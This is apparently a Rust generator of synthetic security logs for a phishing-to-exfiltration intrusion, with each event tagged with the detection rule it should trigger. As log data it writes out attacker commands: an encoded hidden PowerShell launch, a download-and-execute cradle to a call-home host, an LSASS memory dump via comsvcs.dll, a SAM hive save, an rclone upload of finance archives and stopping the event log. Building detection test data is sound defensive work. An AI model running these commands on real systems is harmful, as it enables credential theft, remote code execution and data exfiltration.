//! The intrusion: from an invoice mail to data leaving the company.

use crate::cast::{
    APP_SERVER, BROWSER, CALL_HOME, FILE_SERVER, LATE_VICTIM, Person, SERVICE_ACCOUNT, STORE, VICTIM, fqdn,
    program as exe,
};
use crate::script::{POWERSHELL, SECURITY, SYSMON, SYSTEM, Script, Start, clock, start};
use crate::{Channel, Stage, rules};
use rand::Rng;
use serde_json::json;

const SHELL_AGENT: &str = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.22621.2506";

/// Writes a chapter in which the document has this name.
type Chapter = fn(&mut Script, &str);

pub(crate) fn write(script: &mut Script) {
    let document = format!("Invoice_{}.docm", script.rng.random_range(10_000..99_999));
    let chapters: [(Stage, Chapter); 6] = [
        (Stage::Phishing, phishing),
        (Stage::Macro, macros),
        (Stage::PowerShell, powershell),
        (Stage::CredentialTheft, credential_theft),
        (Stage::LateralMovement, lateral_movement),
        (Stage::Exfiltration, exfiltration),
    ];
    for (stage, chapter) in chapters {
        script.stage = Some(stage);
        chapter(script, &document);
    }
    script.stage = None;
    script.processes.forget();
}

fn phishing(script: &mut Script, document: &str) {
    let mailboxes = [VICTIM.name, LATE_VICTIM.name, "t.varga", "j.holm"];
    for (mailbox, second) in mailboxes.into_iter().zip(12..) {
        let fields = json!({
            "event": {"dataset": "mailgateway.mail", "action": "delivered"}, "host": {"name": "MX-01"},
            "source": {"ip": "203.0.113.61"}, "user": {"name": mailbox},
            "email": {"from": {"address": "billing@larkfie1d.example"}, "to": {"address": format!("{mailbox}@larkfield.example")},
                "subject": "Overdue invoice", "attachments": [{"file": {"name": document, "size": 90_112}}]}});
        let expects = [rules::MACRO_DOCUMENT_DELIVERED, rules::LOOKALIKE_SENDER];
        script.ecs(clock(8, 41, second), Channel::MailGateway, fields, &expects);
    }
}

fn macros(script: &mut Script, document: &str) {
    opened(script, document, &VICTIM, clock(8, 52, 40));
    opened(script, document, &LATE_VICTIM, clock(10, 3, 10));
}

fn attachment(document: &str, who: &Person) -> String {
    format!(r"C:\Users\{}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2\{document}", who.name)
}

fn opened(script: &mut Script, document: &str, who: &Person, at: i64) {
    let command = format!("\"WINWORD.EXE\" /n \"{}\"", attachment(document, who));
    script.process(at, who.host, who.name, &start(exe::WORD, &command, exe::OUTLOOK), &[rules::MACRO_DOCUMENT_OPENED]);
    let user = format!("LARKFIELD\\{}", who.name);
    let engine = json!({"Image": exe::WORD, "Signed": "true", "SignatureStatus": "Valid", "User": user,
        "ImageLoaded": r"C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL"});
    script.windows(at + 4_000, who.host, (SYSMON, 7), engine, &[rules::WORD_LOADED_MACRO_ENGINE]);
    let trust = json!({"EventType": "SetValue", "Image": exe::WORD, "Details": "Binary Data 04A1FFFFFF7F", "User": user,
        "TargetObject": format!(r"HKU\S-1-5-21-1004\SOFTWARE\Microsoft\Office\16.0\Word\Security\Trusted Documents\TrustRecords\{document}")});
    script.windows(at + 11_000, who.host, (SYSMON, 13), trust, &[rules::MACRO_WARNING_ACCEPTED]);
}

/// Word starts PowerShell, and PowerShell asks for the name it calls home to.
fn shell_from_word(script: &mut Script, document: &str, who: &Person, at: i64) {
    let parent_command = format!("\"WINWORD.EXE\" /n \"{}\"", attachment(document, who));
    let shell = Start {
        image: exe::POWERSHELL,
        command: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        parent: exe::WORD,
        parent_command: &parent_command,
    };
    script.process(at, who.host, who.name, &shell, &[rules::WORD_STARTED_ENCODED_POWERSHELL]);
    let query = json!({"Image": exe::POWERSHELL, "QueryName": CALL_HOME.0, "QueryStatus": "0",
        "QueryResults": format!("::ffff:{};", CALL_HOME.1), "User": format!("LARKFIELD\\{}", who.name)});
    script.windows(at + 2_000, who.host, (SYSMON, 22), query, &[rules::POWERSHELL_RESOLVED_OUTSIDE_NAME]);
    let answer = json!({"event": {"dataset": "resolver.query"}, "source": {"ip": who.ip}, "resolver": {"domain_age_days": 3},
        "dns": {"question": {"name": CALL_HOME.0, "type": "A"}, "answers": [{"data": CALL_HOME.1}], "response_code": "NOERROR"}});
    script.ecs(at + 2_000, Channel::Dns, answer, &[rules::DNS_YOUNG_DOMAIN]);
    let code = json!({"ScriptBlockText": format!("IEX (New-Object Net.WebClient).DownloadString('https://{}/a')", CALL_HOME.0)});
    script.windows(at + 3_000, who.host, (POWERSHELL, 4104), code, &[rules::POWERSHELL_RAN_FETCHED_CODE]);
}

fn request(script: &mut Script, at: i64, who: &Person, status: u16, expects: &[&'static str]) {
    let fields = json!({"event": {"dataset": "webproxy.access"}, "observer": {"type": "proxy", "name": "PRX-02"},
        "host": {"name": fqdn(who.host)}, "source": {"ip": who.ip},
        "destination": {"ip": CALL_HOME.1, "port": 443}, "user": {"name": who.name}, "user_agent": {"original": SHELL_AGENT},
        "http": {"request": {"method": "GET", "bytes": 612}, "response": {"status_code": status, "bytes": 217_088}},
        "url": {"domain": CALL_HOME.0, "full": format!("https://{}/a", CALL_HOME.0)}});
    script.ecs(at, Channel::Proxy, fields, expects);
}

fn flow(at: i64, script: &mut Script, action: &str, from: &str, to: &str, bytes: u64, expects: &[&'static str]) {
    let port = script.rng.random_range(49_152..65_535);
    let mut fields = json!({"event": {"dataset": "larkwall.traffic", "action": action},
        "observer": {"type": "firewall", "name": "FW-EDGE-01"}, "source": {"ip": from, "port": port, "bytes": bytes},
        "destination": {"ip": to, "port": 443}, "network": {"transport": "tcp", "protocol": "tls", "direction": "outbound"}});
    // What calls home knows an address and names no server.
    if to == STORE.1 {
        fields["tls"] = json!({"client": {"server_name": STORE.0}});
    }
    script.ecs(at, Channel::Firewall, fields, expects);
}

fn powershell(script: &mut Script, document: &str) {
    let start_at = clock(8, 53, 6);
    shell_from_word(script, document, &VICTIM, start_at);
    request(script, clock(8, 53, 9), &VICTIM, 200, &[rules::POWERSHELL_THROUGH_PROXY]);
    let library = format!(r"C:\Users\{}\AppData\Roaming\upd.dll", VICTIM.name);
    let command = format!("rundll32.exe {library},Start");
    let rundll = start(exe::RUNDLL, &command, exe::POWERSHELL);
    script.process(clock(8, 53, 29), VICTIM.host, VICTIM.name, &rundll, &[rules::RUNDLL32_ON_PROFILE_DLL]);
    let load = json!({"Image": exe::RUNDLL, "ImageLoaded": library, "Signed": "false", "SignatureStatus": "Unavailable",
        "User": format!("LARKFIELD\\{}", VICTIM.name)});
    script.windows(clock(8, 53, 31), VICTIM.host, (SYSMON, 7), load, &[rules::UNSIGNED_DLL_FROM_PROFILE]);
    let group = start(r"C:\Windows\System32\net.exe", r#"net group "Domain Admins" /domain"#, exe::RUNDLL);
    script.process(clock(8, 58, 12), VICTIM.host, VICTIM.name, &group, &[rules::DOMAIN_ADMINISTRATORS_LISTED]);
    // It calls home once a minute until the firewall knows the address.
    for beat in 0..65 {
        let at = clock(8, 53, 40) + beat * 60_000 + script.rng.random_range(-900..900);
        flow(at, script, "allow", VICTIM.ip, CALL_HOME.1, 840, &[rules::TLS_TO_BARE_ADDRESS]);
    }
    shell_from_word(script, document, &LATE_VICTIM, clock(10, 3, 41));
    request(script, clock(10, 3, 44), &LATE_VICTIM, 403, &[]);
    flow(clock(10, 3, 45), script, "deny", LATE_VICTIM.ip, CALL_HOME.1, 0, &[]);
}

fn credential_theft(script: &mut Script, _: &str) {
    let dump = start(
        exe::RUNDLL,
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\lsass.dmp full",
        exe::RUNDLL,
    );
    script.process(clock(9, 2, 17), VICTIM.host, VICTIM.name, &dump, &[rules::MEMORY_DUMP_BY_COMSVCS]);
    let user = format!("LARKFIELD\\{}", VICTIM.name);
    let read =
        json!({"SourceImage": exe::RUNDLL, "TargetImage": exe::LSASS, "GrantedAccess": "0x1410", "SourceUser": user});
    script.windows(clock(9, 2, 18), VICTIM.host, (SYSMON, 10), read, &[rules::LSASS_MEMORY_READ]);
    let file = json!({"Image": exe::RUNDLL, "TargetFilename": r"C:\Windows\Temp\lsass.dmp", "User": user});
    script.windows(clock(9, 2, 19), VICTIM.host, (SYSMON, 11), file, &[rules::LSASS_DUMP_FILE]);
    let hive = start(r"C:\Windows\System32\reg.exe", r"reg.exe save HKLM\SAM C:\Windows\Temp\s.hiv", exe::RUNDLL);
    script.process(clock(9, 3, 5), VICTIM.host, VICTIM.name, &hive, &[rules::REGISTRY_HIVE_SAVED]);
}

fn lateral_movement(script: &mut Script, _: &str) {
    let explicit = json!({"SubjectUserName": VICTIM.name, "SubjectDomainName": "LARKFIELD", "TargetUserName": SERVICE_ACCOUNT,
        "TargetDomainName": "LARKFIELD", "TargetServerName": FILE_SERVER.0, "ProcessName": exe::RUNDLL});
    script.windows(clock(9, 7, 50), VICTIM.host, (SECURITY, 4648), explicit, &[rules::SERVICE_ACCOUNT_USED_BY_USER]);
    let logon = json!({"TargetUserName": SERVICE_ACCOUNT, "TargetDomainName": "LARKFIELD", "LogonType": "3",
        "IpAddress": VICTIM.ip, "WorkstationName": VICTIM.host});
    let expects = [rules::SERVICE_ACCOUNT_LOGON_FROM_WORKSTATION];
    script.windows(clock(9, 7, 54), FILE_SERVER.0, (SECURITY, 4624), logon, &expects);
    let written = json!({"SubjectUserName": SERVICE_ACCOUNT, "SubjectDomainName": "LARKFIELD", "ShareName": r"\\*\ADMIN$",
        "RelativeTargetName": r"Temp\WinUpdSvc.exe", "IpAddress": VICTIM.ip, "AccessMask": "0x2", "AccessList": "%%4417"});
    script.windows(clock(9, 7, 55), FILE_SERVER.0, (SECURITY, 5145), written, &[rules::PROGRAM_WRITTEN_TO_ADMIN_SHARE]);
    let service = json!({"ServiceName": "WinUpdSvc", "ImagePath": r"C:\Windows\Temp\WinUpdSvc.exe",
        "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"});
    script.windows(clock(9, 8, 1), FILE_SERVER.0, (SYSTEM, 7045), service, &[rules::SERVICE_FROM_TEMPORARY_FOLDER]);
    let run = start(r"C:\Windows\Temp\WinUpdSvc.exe", r"C:\Windows\Temp\WinUpdSvc.exe", exe::SERVICES);
    script.process(clock(9, 8, 2), FILE_SERVER.0, SERVICE_ACCOUNT, &run, &[]);
    let session = json!({"Image": exe::RUNDLL, "User": format!("LARKFIELD\\{}", VICTIM.name), "Protocol": "tcp",
        "Initiated": "true", "SourceIp": VICTIM.ip, "DestinationIp": APP_SERVER.1, "DestinationPort": "5985"});
    let expects = [rules::WINRM_SESSION_FROM_WORKSTATION];
    script.windows(clock(9, 16, 27), VICTIM.host, (SYSMON, 3), session, &expects);
    let remote = start(exe::POWERSHELL, "powershell.exe -nop", exe::WSMPROVHOST);
    script.process(
        clock(9, 16, 29),
        APP_SERVER.0,
        SERVICE_ACCOUNT,
        &remote,
        &[rules::REMOTE_POWERSHELL_BY_SERVICE_ACCOUNT],
    );
    let line = format!("Accepted password for {SERVICE_ACCOUNT} from {} port 50122 ssh2", APP_SERVER.1);
    script.linux(clock(9, 21, 4), "srv-db-02", "sshd", &line, &[rules::SSH_PASSWORD_OF_SERVICE_ACCOUNT]);
}

fn exfiltration(script: &mut Script, _: &str) {
    let parent = r"C:\Windows\Temp\WinUpdSvc.exe";
    let mut run = |at, image, command, rule| {
        script.process(at, FILE_SERVER.0, SERVICE_ACCOUNT, &start(image, command, parent), &[rule]);
    };
    let pack = r"7z.exe a -mhe=on -pQ7 C:\Windows\Temp\q1.7z D:\Finance\Q1";
    run(clock(9, 24, 10), r"C:\Program Files\7-Zip\7z.exe", pack, rules::ARCHIVE_WITH_PASSWORD);
    let copy = r"rclone.exe copy C:\Windows\Temp\q1.7z r:q1 --no-check-certificate";
    run(clock(9, 24, 26), r"C:\Windows\Temp\rclone.exe", copy, rules::RCLONE_TO_REMOTE);
    // Now the log: what the server does until 10:41 only others saw.
    run(clock(9, 24, 30), r"C:\Windows\System32\sc.exe", "sc.exe stop eventlog", rules::EVENT_LOG_SILENCED);
    let mut sent = 0;
    for part in 0..6 {
        let bytes: u64 = script.rng.random_range(66_000_000..72_000_000);
        sent += bytes;
        let agent = if part == 0 { "rclone/v1.69" } else { BROWSER };
        let fields = json!({"event": {"dataset": "webproxy.access"}, "observer": {"type": "proxy", "name": "PRX-02"},
            "host": {"name": fqdn(FILE_SERVER.0)}, "source": {"ip": FILE_SERVER.1}, "destination": {"ip": STORE.1, "port": 443}, "user": {"name": SERVICE_ACCOUNT},
            "user_agent": {"original": agent}, "url": {"domain": STORE.0, "full": format!("https://{}/q1/{part}", STORE.0)},
            "http": {"request": {"method": "PUT", "bytes": bytes}, "response": {"status_code": 200, "bytes": 310}}});
        script.ecs(clock(9, 32, 10) + part * 61_000, Channel::Proxy, fields, &[rules::LARGE_UPLOAD_THROUGH_PROXY]);
    }
    flow(clock(9, 38, 20), script, "allow", FILE_SERVER.1, STORE.1, sent, &[rules::LARGE_UPLOAD_AT_THE_EDGE]);
}
